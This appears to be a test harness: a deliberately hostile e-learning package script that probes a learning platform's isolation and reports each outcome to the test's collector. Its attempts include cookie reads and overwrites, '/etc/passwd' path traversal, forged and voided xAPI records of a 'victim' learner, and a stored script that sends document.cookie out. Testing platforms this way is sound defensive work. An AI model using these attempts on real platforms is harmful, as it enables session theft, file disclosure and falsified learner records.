'use strict'
// What a package could try that means harm. Each attempt has a name and answers in
// a word what came of it; the test knows which word it should be. The results go to
// the test's own server, and nothing else here speaks to anybody outside.

const asked = new URLSearchParams(location.search)
const endpoint = (asked.get('endpoint') || told.pages + '/xapi').replace(/\/$/, '') + '/'
const own = { registration: asked.get('registration'), actor: asked.get('actor'), activity: asked.get('activityId') || asked.get('activity_id') }
let authorization = asked.get('auth')

const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms))

function report (name, value) {
  return fetch(told.collector, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ where: where(), name, value: String(value) }) })
}

// where tells the kind of package, and whether a page of others has it in a frame.
function where () {
  const outermost = told.kind === 'scorm' ? window.parent : window
  return told.kind + (outermost === window.top ? '' : ' framed')
}

// ask answers the status, or "blocked" when the browser lets nothing through.
async function ask (method, url, options = {}) {
  try {
    const response = await fetch(url, { method, ...options })
    if (options.count) return String((await response.json()).statements.length)
    return response.type === 'opaque' ? 'opaque' : String(response.status)
  } catch (e) {
    return 'blocked'
  }
}

function xapi (method, path, body, type, count) {
  const headers = { 'X-Experience-API-Version': '1.0.3', 'Content-Type': type || 'application/json' }
  if (authorization) headers.Authorization = authorization
  return ask(method, endpoint + path, { headers, body: body && (typeof body === 'string' ? body : JSON.stringify(body)), count })
}

const query = (parameters) => '?' + new URLSearchParams(parameters)

// template is the context that cmi5 asks for; others have none.
let template = {}

const context = (change) => ({ ...template, registration: own.registration || told.victim.registration, ...change })

function statement (change) {
  return {
    id: crypto.randomUUID(), timestamp: new Date().toISOString(), actor: own.actor ? JSON.parse(own.actor) : told.victim.actor,
    verb: { id: 'http://example.org/verbs/forged' }, object: { id: own.activity || 'http://example.org/forged' }, context: context(), ...change
  }
}

const ownID = crypto.randomUUID()

// inBrowser are the attempts of every package.
const inBrowser = {
  'read the cookies of the pages': () => document.cookie || 'nothing',
  'set a cookie of the pages': async () => {
    for (const name of ['__Host-session', 'plain']) {
      for (const rest of ['; path=/', '; path=/; domain=localhost', '; path=/; secure', '; path=/; domain=127.0.0.1']) document.cookie = name + '=evil' + rest
    }
    try { await cookieStore.set({ name: 'plain', value: 'evil', domain: 'localhost' }) } catch (e) { return e.name }
    return 'set'
  },
  'API with the cookies of the pages': () => ask('GET', told.pages + '/api/v1/courses', { credentials: 'include' }),
  'API write with the cookies of the pages': () => ask('POST', told.pages + '/api/v1/registrations',
    { mode: 'no-cors', credentials: 'include', body: JSON.stringify({ course: told.victim.course, learner: { actor: told.victim.actor } }) }),
  'API on the content origin': () => ask('GET', '/api/v1/courses'),
  'xAPI on the content origin': () => ask('GET', '/xapi/statements'),
  'xAPI without a token': () => ask('GET', endpoint + 'statements', { headers: { 'X-Experience-API-Version': '1.0.3' } }),
  'xAPI write without a token': () => ask('POST', endpoint + 'statements', { headers: { 'X-Experience-API-Version': '1.0.3', 'Content-Type': 'application/json' }, body: JSON.stringify(statement({})) }),
  'another launch, guessed': () => ask('GET', '/launch/' + told.guess),
  'commit of another launch, guessed': () => ask('POST', '/run/' + told.guess + '/commit?item=one', { body: '{}' }),
  'state of another launch, guessed': () => ask('POST', '/run/' + told.guess + '/open?item=one'),
  'files of another launch, guessed': () => ask('GET', '/content/' + told.guess + '/secret.txt'),
  'a file of another package': () => ask('GET', base() + 'secret.txt'),
  'a file of another package, by climbing': () => ask('GET', base() + '..%2f..%2f' + told.guess + '%2fsecret.txt'),
  'a file of the server': () => ask('GET', base() + '%2e%2e/%2e%2e/%2e%2e/etc/passwd'),
  'a part of another package': () => ask('POST', '/run/' + base().split('/')[2] + '/open?item=elsewhere'),
  'a service worker': () => worker('sw.js'),
  'a service worker for everything': () => worker('sw.js', { scope: '/' }),
  'a service worker of a blob': () => worker(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))),
  'service workers that are left': async () => (await navigator.serviceWorker.getRegistrations()).length,
  'who opened the window': () => String(window.top === window || told.kind === 'scorm' && window.parent === window.top ? window.top.opener : window.opener),
  'the outermost window': () => {
    try { return window.top.location.origin === location.origin ? 'own' : 'reached' } catch (e) { return e.name }
  },
  'the pages in a frame': async () => {
    const frame = document.createElement('iframe')
    frame.src = told.pages + '/dashboard'
    document.body.append(frame)
    await wait(500) // the dashboard says so itself when it is in a frame
    try { return frame.contentDocument ? 'own' : 'out of reach' } catch (e) { return e.name }
  },
  'the pages in a window': async () => {
    const w = window.open(told.pages + '/dashboard?opened')
    if (!w) return 'blocked'
    for (let i = 0; i < 30 && !w.closed; i++) await wait(100)
    return w.closed ? 'severed' : 'held'
  },
  'messages to other windows': () => {
    for (const w of [window.top, window.parent, window.opener]) {
      for (const message of ['commit', { type: 'commit', session: 1 }, { method: 'LMSSetValue', args: ['cmi.core.lesson_status', 'passed'] }]) w?.postMessage(message, '*')
    }
    return 'sent'
  },
  'what browsers ask learners for': () => {
    const policy = document.featurePolicy
    return ['geolocation', 'usb', 'payment', 'display-capture', 'clipboard-read', 'publickey-credentials-get'].filter((f) => policy.allowsFeature(f)).join(' ') || 'nothing'
  }
}

// withToken are those of packages that speak xAPI themselves.
const withToken = {
  'API with its token': () => ask('GET', told.pages + '/api/v1/courses', { headers: { Authorization: authorization } }),
  'statement of another registration': () => xapi('POST', 'statements', statement({ context: context({ registration: told.victim.registration }) })),
  'statement of no registration': () => xapi('POST', 'statements', statement({ context: context({ registration: undefined }) })),
  'statement of another actor': () => xapi('POST', 'statements', statement({ actor: told.victim.actor })),
  'statement of another actor among its own': () => xapi('POST', 'statements', [statement({}), statement({ actor: told.victim.actor })]),
  'statement about another course': () => xapi('POST', 'statements', statement({ object: { id: told.victim.activity } })),
  'statement about a part of another course': () => xapi('POST', 'statements', statement({ object: { id: told.victim.activity + '/item/one' } })),
  'voiding a statement of another': () => xapi('POST', 'statements', statement({ verb: { id: 'http://adlnet.gov/expapi/verbs/voided' }, object: { objectType: 'StatementRef', id: told.victim.statement } })),
  'voiding its own statement': () => xapi('POST', 'statements', statement({ verb: { id: 'http://adlnet.gov/expapi/verbs/voided' }, object: { objectType: 'StatementRef', id: ownID } })),
  'statement of another by id': () => xapi('GET', 'statements' + query({ statementId: told.victim.statement })),
  'statements of another registration': () => xapi('GET', 'statements' + query({ registration: told.victim.registration }), null, '', true),
  'statements of another actor': () => xapi('GET', 'statements' + query({ agent: JSON.stringify(told.victim.actor), related_agents: true }), null, '', true),
  'state of another registration': () => xapi('GET', 'activities/state' + query({ stateId: 'bookmark', activityId: told.victim.activity, agent: own.actor, registration: told.victim.registration })),
  'state of another learner': () => xapi('GET', 'activities/state' + query({ stateId: 'bookmark', activityId: told.victim.activity, agent: JSON.stringify(told.victim.actor), registration: own.registration })),
  'state of no registration': () => xapi('PUT', 'activities/state' + query({ stateId: 'bookmark', activityId: own.activity, agent: own.actor }), 'x', 'text/plain'),
  'deleting the state of another': () => xapi('DELETE', 'activities/state' + query({ activityId: told.victim.activity, agent: JSON.stringify(told.victim.actor), registration: told.victim.registration })),
  'profile of another learner': () => xapi('GET', 'agents/profile' + query({ profileId: 'p', agent: JSON.stringify(told.victim.actor) })),
  'who another learner is': () => xapi('GET', 'agents' + query({ agent: JSON.stringify(told.victim.actor) })),
  'profile of another course': () => xapi('POST', 'activities/profile' + query({ profileId: 'p', activityId: told.victim.activity }), { forged: true }),
  'a page of its own at the address of the pages': async () => {
    const target = { stateId: 'page', activityId: own.activity, agent: own.actor, registration: own.registration }
    const text = '<script>fetch(' + JSON.stringify(told.collector) + ', { method: "POST", mode: "no-cors", body: JSON.stringify({ where: "pages", name: "a script of content ran", value: document.cookie }) })</scr' + 'ipt>'
    const stored = await xapi('PUT', 'activities/state' + query(target), text, 'text/html')
    const form = document.createElement('form')
    form.method = 'POST'
    form.target = '_blank'
    form.action = endpoint + 'activities/state?method=GET'
    for (const [name, value] of Object.entries({ ...target, Authorization: authorization, 'X-Experience-API-Version': '1.0.3' })) {
      const field = document.createElement('input')
      field.name = name
      field.value = value
      form.append(field)
    }
    document.body.append(form)
    form.submit()
    await wait(300)
    return stored
  }
}

function base () { return location.pathname.split('/').slice(0, 3).join('/') + '/' }

async function worker (script, options) {
  try {
    await navigator.serviceWorker.register(script, options)
    return 'registered'
  } catch (e) {
    return e.name
  }
}

// sessionToken gets the token of a session of cmi5, and begins it as the standard asks.
async function sessionToken () {
  const fetched = await (await fetch(asked.get('fetch'), { method: 'POST' })).json()
  authorization = 'Basic ' + fetched['auth-token']
  await report('the token again', (await (await fetch(asked.get('fetch'), { method: 'POST' })).json())['error-code'])
  await report('the token of another session', (await (await fetch(asked.get('fetch').replace(own.registration, told.victim.registration), { method: 'POST' })).json())['error-code'])
  await xapi('GET', 'agents/profile' + query({ profileId: 'cmi5LearnerPreferences', agent: own.actor }))
  const state = await fetch(endpoint + 'activities/state' + query({ stateId: 'LMS.LaunchData', activityId: own.activity, agent: own.actor, registration: own.registration }), { headers: { Authorization: authorization, 'X-Experience-API-Version': '1.0.3' } })
  template = (await state.json()).contextTemplate
  const category = [{ id: 'https://w3id.org/xapi/cmi5/context/categories/cmi5' }]
  await report('its own beginning', await xapi('POST', 'statements', statement({
    verb: { id: 'http://adlnet.gov/expapi/verbs/initialized' }, context: context({ contextActivities: { ...template.contextActivities, category } })
  })))
}

async function run (attempts) {
  for (const [name, attempt] of Object.entries(attempts)) {
    let result
    try { result = await attempt() } catch (e) { result = 'threw ' + e.name }
    await report(name, result)
  }
}

async function start () {
  if (told.kind === 'cmi5') await sessionToken()
  if (authorization) {
    await report('its own statement', await xapi('POST', 'statements', statement({ id: ownID })))
    await run(withToken)
  }
  await run(inBrowser)
  if (where().endsWith('framed')) {
    await run({
      'navigating the outermost window': async () => {
        window.top.location.href = told.pages + '/dashboard?navigated'
        await wait(200)
        return 'tried'
      }
    })
  }
  await report('done', 'yes')
}
start()
